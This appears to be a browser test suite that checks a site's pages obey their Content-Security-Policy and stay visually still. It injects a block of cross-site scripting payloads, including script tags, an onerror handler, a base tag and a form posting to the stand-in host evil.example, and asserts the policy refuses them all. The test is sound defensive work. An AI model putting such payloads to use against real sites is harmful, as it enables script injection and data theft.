"""Pages obey their policy, which lets nobody's scripts run, and nothing moves while they load."""

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, Route

from tests.browser.pages import addresses_of_each_kind, open_still
from tests.machine import PATIENCE

# Each page tells of itself what its policy refused, and what moved.
_WATCH = """
window.found = [];
addEventListener("securitypolicyviolation", event =>
  window.found.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sample}`));
new PerformanceObserver(list => {
  for (const entry of list.getEntries()) window.found.push(`moved by ${entry.value}`);
}).observe({type: "layout-shift", buffered: true});
"""
# What an attacker would try who could write into a page.
_ATTACKS = """
<script>window.attacked = "script"</script>
<img src="x" onerror="window.attacked = 'handler'">
<svg><script>window.attacked = "svg"</script></svg>
<iframe srcdoc="<script>parent.attacked = 'frame'</script>"></iframe>
<script src="/attack.js"></script>
<base href="https://evil.example/">
<link rel="stylesheet" href="https://evil.example/style.css">
<img src="https://evil.example/pixel.png">
<form id="stolen" action="https://evil.example/"><input name="a"></form>
<p id="styled" style="color: rgb(1, 2, 3)">Styled</p>
</main>
"""


@pytest.fixture(params=(360, 1280))
def context(browser: Browser, request: pytest.FixtureRequest) -> Iterator[BrowserContext]:
    with browser.new_context(viewport={"width": request.param, "height": 800}) as context:
        context.set_default_timeout(PATIENCE * 1000)
        context.add_init_script(_WATCH)
        yield context


def test_no_page_asks_for_what_its_policy_refuses_and_nothing_moves(
    context: BrowserContext, built: Path, address: str
) -> None:
    found: list[Any] = []
    page = context.new_page()
    page.on("console", lambda message: found.append(message.text))
    for path in addresses_of_each_kind(built):
        open_still(page, address + path)
        page.evaluate("document.fonts.ready")
        policies = page.locator('meta[http-equiv="Content-Security-Policy"]')
        assert policies.count() == 1, path
        found += [(path, one) for one in page.evaluate("window.found")]
    assert found == []


def test_nothing_that_is_smuggled_into_a_page_runs_or_is_loaded(
    context: BrowserContext, address: str
) -> None:
    asked: list[str] = []
    page = context.new_page()

    def attack(route: Route) -> None:
        html = route.fetch().text().replace("</main>", _ATTACKS)
        route.fulfill(body=html, content_type="text/html; charset=utf-8")

    page.route(f"{address}/about/", attack)

    def answer(route: Route) -> None:
        asked.append(route.request.url)
        route.fulfill(body="window.attacked = 'file'")

    page.route("**/attack.js", answer)
    page.route("https://evil.example/**", answer)
    page.goto(f"{address}/about/")
    _expect_refused(page)
    page.evaluate("document.getElementById('stolen').submit()")
    page.wait_for_load_state()
    assert asked == []
    assert page.url.startswith(address)


def _expect_refused(page: Page) -> None:
    assert page.evaluate("window.attacked") is None
    refused = {one.split()[0] for one in page.evaluate("window.found")}
    assert refused >= {
        *("script-src-elem", "script-src-attr", "base-uri", "style-src-elem", "style-src-attr"),
        "img-src",
    }
    assert page.locator("#styled").evaluate("one => getComputedStyle(one).color") != "rgb(1, 2, 3)"
